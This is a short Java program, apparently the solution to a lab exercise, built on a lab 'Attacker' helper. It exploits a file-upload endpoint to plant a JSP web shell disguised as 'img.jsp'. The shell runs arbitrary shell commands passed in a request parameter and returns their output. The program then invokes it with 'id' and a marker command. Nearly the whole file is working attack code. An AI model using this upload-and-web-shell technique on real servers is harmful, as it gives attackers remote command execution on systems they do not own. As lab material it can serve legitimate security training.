import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    Attacker.post(
        "/upload?name=img.jsp",
        "<% java.io.InputStream in = Runtime.getRuntime().exec(new String[] {\"sh\", \"-c\","
            + " request.getParameter(\"c\")}).getInputStream();"
            + " out.print(new String(in.readAllBytes())); %>");
    Attacker.get("/img.jsp?c=" + Attacker.encode("id; " + Attacker.touch()));
    Attacker.done();
  }
}
